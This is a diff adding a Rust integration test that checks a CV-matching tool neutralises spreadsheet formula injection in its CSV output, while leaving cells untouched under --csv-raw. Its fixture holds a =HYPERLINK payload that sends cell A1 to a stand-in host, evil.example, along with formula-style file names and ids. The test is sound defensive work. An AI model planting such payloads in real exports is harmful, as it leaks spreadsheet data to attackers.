@@ -324,3 +324,96 @@ fn conflicting_duplicate_codes_are_warned_of_naming_both_sources() {
     let output = loud(&tmp.path().join("index2")).arg("--corpus").arg(&quiet).arg("list").output().unwrap();
     assert!(!stderr_of(&output).contains("given differently"), "{}", stderr_of(&output));
 }
+
+// ---- 15. CSV formula injection ----
+
+/// A CV whose sentences each start with a spreadsheet formula character.
+const FORMULAS: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") I manage IT service delivery and \
+lead incident management for a large team.\n\n@SUM(1+1) I design network infrastructure and plan capacity \
+for the data centre.\n\n+I set the information security strategy and am accountable for risk management \
+across the organisation.\n\n-I lead the incident management process and review major incidents with \
+service owners.\n";
+
+/// The records of a CSV text, header first.
+fn csv_rows(text: &[u8]) -> Vec<Vec<String>> {
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(text)
+        .records()
+        .map(|r| r.expect("valid CSV").iter().map(str::to_string).collect())
+        .collect()
+}
+
+/// The cell of `column` in every data row.
+fn column(rows: &[Vec<String>], column: &str) -> Vec<String> {
+    let index =
+        rows[0].iter().position(|h| h == column).unwrap_or_else(|| panic!("{column} in {:?}", rows[0]));
+    rows[1..].iter().map(|r| r[index].clone()).collect()
+}
+
+/// Whether a cell would start a formula in a spreadsheet.
+fn formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+#[test]
+fn csv_cells_that_start_a_formula_are_neutralised_unless_csv_raw() {
+    let tmp = TempDir::new().unwrap();
+    // File names that are formulas too; run from the folder so the names are given as is.
+    write(&tmp.path().join("=advert.txt"), FORMULAS);
+    write(&tmp.path().join("@cv.txt"), FORMULAS);
+    write(
+        &tmp.path().join("in.jsonl"),
+        &format!(
+            "{{\"id\": \"=1+1\", \"text\": {}}}\n{{\"id\": -7, \"text\": {}}}\n",
+            serde_json::to_string(FORMULAS).unwrap(),
+            serde_json::to_string(&format!("-{DOC}")).unwrap()
+        ),
+    );
+    let run = |args: &[&str]| {
+        let output = sfia(&tmp).current_dir(tmp.path()).args(args).assert().success().get_output().clone();
+        (output.stdout.clone(), csv_rows(&output.stdout))
+    };
+    let guarded = |rows: &[Vec<String>], name: &str| {
+        let cells = column(rows, name);
+        assert!(!cells.is_empty(), "{name}: no rows");
+        for cell in &cells {
+            assert!(!formula(cell), "{name}: {cell:?} starts a formula");
+        }
+        cells
+    };
+
+    // match: the source and the evidence.
+    let (bytes, rows) = run(&["match", "--format", "csv", "=advert.txt"]);
+    assert_eq!(guarded(&rows, "source")[0], "'=advert.txt");
+    assert!(
+        guarded(&rows, "evidence").iter().any(|e| e.starts_with("'-") || e.starts_with("'=")),
+        "{rows:?}"
+    );
+    assert!(String::from_utf8_lossy(&bytes).contains("\"'=advert.txt\""), "neutralised cells are quoted");
+    for score in column(&rows, "score") {
+        assert!(score.parse::<f64>().is_ok(), "numeric cells stay numbers: {score}");
+    }
+    // rank: the CV and its strongest evidence.
+    let (_, rows) = run(&["rank", "--format", "csv", "=advert.txt", "@cv.txt"]);
+    assert_eq!(guarded(&rows, "cv"), vec!["'@cv.txt".to_string()]);
+    guarded(&rows, "strongest_evidence");
+    // compare: advert, CV and both evidence columns.
+    let (_, rows) = run(&["compare", "--format", "csv", "=advert.txt", "@cv.txt"]);
+    assert_eq!(guarded(&rows, "advert")[0], "'=advert.txt");
+    assert_eq!(guarded(&rows, "cv")[0], "'@cv.txt");
+    guarded(&rows, "advert_evidence");
+    // bulk: a text id is guarded, a numeric id (negative) is a number and left alone.
+    let (_, rows) = run(&["bulk", "--format", "csv", "--top", "1", "--jsonl-in", "in.jsonl"]);
+    let ids = column(&rows, "id");
+    assert_eq!(ids, vec!["'=1+1".to_string(), "-7".to_string()], "{rows:?}");
+    guarded(&rows, "evidence");
+
+    // --csv-raw: text exactly as it was, for programs.
+    let (_, rows) = run(&["--csv-raw", "match", "--format", "csv", "=advert.txt"]);
+    assert_eq!(column(&rows, "source")[0], "=advert.txt");
+    assert!(column(&rows, "evidence").iter().any(|e| formula(e)), "{rows:?}");
+    let (_, rows) = run(&["bulk", "--csv-raw", "--format", "csv", "--top", "1", "--jsonl-in", "in.jsonl"]);
+    assert_eq!(column(&rows, "id"), vec!["=1+1".to_string(), "-7".to_string()]);
+}
